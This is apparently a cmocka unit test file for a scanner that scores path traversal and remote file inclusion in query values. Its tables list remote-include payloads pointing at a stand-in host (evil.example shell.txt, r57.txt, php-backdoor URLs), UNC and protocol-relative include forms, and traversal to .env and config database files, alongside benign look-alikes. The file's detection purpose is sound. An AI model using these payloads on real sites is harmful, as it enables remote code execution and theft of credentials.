/* test_payload_rtp3.c - issue 20, session 16 red team of helper t (path
 * traversal, local and remote file inclusion): the remote-include forms
 * the last review left open (rev4 E8, E10) and the look-alikes that must
 * stay below the kill line, one row per construct. Each value is judged as
 * a query parameter value (payload_scan) and as a form body
 * "a=1&q=<percent-encoded value>" (payload_scan_query); the highest
 * path_traversal score must lie in the row's range in both. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_trav_rows.h"

/* rev4 E8: the include appends ".php" (or ".inc.php"); a query whose last
 * parameter's value is empty cuts it as "?" does: "?x=", "?a=b&x=". A key
 * with no value ("?x") or a trailing '&' is where a query string's own
 * '&' cuts an unescaped URL inside it ("next=https://x/a.txt?raw&l=en"):
 * none. A text file fetched so is what an include is
 * made to run (70); a page's or an image's address cut so is told (50):
 * return-URL and avatar fields carry them (rev4 A8) */
static void test_rfi_query_cut(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"http://evil.example/shell.txt?", 70, 100},
		{"http://evil.example/shell.txt?=", 70, 100},
		{"http://evil.example/shell.txt#", 70, 100},
		/* an empty last value after a name: the name is one a site
		 * chooses, and a tracking template leaves values empty: told */
		{"http://evil.example/shell.txt?x=", 50, 59},
		{"http://evil.example/shell.txt?a=b&x=", 50, 59},
		{"http://evil.example/php-backdoor.txt?page=", 50, 59},
		{"ftp://evil.example/r57.txt?cmd=", 50, 59},
		{"http://evil.example/shell.txt?x", 0, 0},
		{"https://example.com/docs/readme.txt?raw", 0, 0},
		{"http://evil.example/shell.php?x=", 0, 0},
		{"https://cdn.example.com/images/logo.png?", 50, 59},
		/* a text file's address with a whole query is a link */
		{"https://example.com/files/report.txt?version=2", 0, 0},
		{"https://example.com/robots.txt?a=1#top", 0, 0},
		/* no extension: a search page's address cut so is as common
		 * (benign.txt "https://example.com/search?"): none */
		{"http://evil.example/shell?", 0, 0},
		{"http://evil.example/?", 0, 0},
	};
	run("rfi-query-cut", t, sizeof(t) / sizeof(t[0]));
}

/* rev4 E8/E10: "//host/..." is a protocol-relative URL to an include that
 * fetches URLs, and a UNC path to PHP on Windows: a text file cut as above
 * (70), a script under host and share (50, a page's protocol-relative
 * link too); a stylesheet's or an image's protocol-relative link is none */
static void test_rfi_slashes(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"//evil.example/shell.txt?", 70, 100},
		{"//evil.example/shell.txt?x=", 50, 59},
		{"//evil.example/share/shell.php", 50, 59},
		{"\\\\evil.example\\share\\shell.php", 50, 59},
		{"//cdn.example.com/js/app.js", 0, 0},
		{"//fonts.example.com/css?family=Roboto", 0, 0},
		{"//cdn.example.com/img/a/logo.png", 0, 0},
		/* a UNC path to a text file: no name on Windows holds a '?',
		 * nothing cuts the ".php"; an IT ticket's path */
		{"\\\\evil.example\\share\\shell.txt", 0, 0},
	};
	run("rfi-slashes", t, sizeof(t) / sizeof(t[0]));
}

/* a dotfile's name leading a sentence is named to a reader (main killed
 * ".env files should never be committed" at 75) */
static void test_dotfile_prose(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{".env files should never be committed", 0, 59},
		{".htaccess rules are read on every request", 0, 59},
		{".env", 50, 100},
		{"../../.env", 60, 100},
	};
	run("dotfile-prose", t, sizeof(t) / sizeof(t[0]));
}

/* a configuration file under a system tree with one '?' or '#' after it:
 * the cut a reader's appended suffix is dropped with, as a NUL is */
static void test_system_file_cut(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"/opt/atlassian/jira/dbconfig.xml#", 60, 100},
		{"/srv/www/htdocs/config.inc.php?", 60, 100},
		{"/var/lib/grafana/grafana.db?", 60, 100},
		{"/var/www/html/", 0, 0},
		{"Where is /var/log/syslog kept on Ubuntu?", 0, 59},
	};
	run("system-file-cut", t, sizeof(t) / sizeof(t[0]));
}

/* a text file's address with an empty tracking, versioning or language
 * value: what SEO and validator tools are handed (robots.txt, ads.txt,
 * security.txt) and what a tracking template or a share link emits.
 * These drew 70 on 063aa41/91192d7 (main: none) */
static void test_rfi_tracking_empty(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"https://example.com/robots.txt?utm_source=", 0, 0},
		{"https://example.com/robots.txt?utm_source=newsletter&utm_medium=", 0, 0},
		{"https://example.com/a.txt?v=", 0, 0},
		{"https://example.com/static/ads.txt?v=", 0, 0},
		{"https://www.example.org/.well-known/security.txt?lang=", 0, 0},
		{"https://example.com/robots.txt?ver=", 0, 0},
		{"https://example.com/ads.txt?ref=", 0, 0},
		/* main's: a '?' alone still cuts (70) */
		{"http://evil.example/shell.txt?", 70, 100},
	};
	run("rfi-tracking-empty", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rfi_query_cut),
		cmocka_unit_test(test_rfi_slashes),
		cmocka_unit_test(test_dotfile_prose),
		cmocka_unit_test(test_system_file_cut),
		cmocka_unit_test(test_rfi_tracking_empty),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
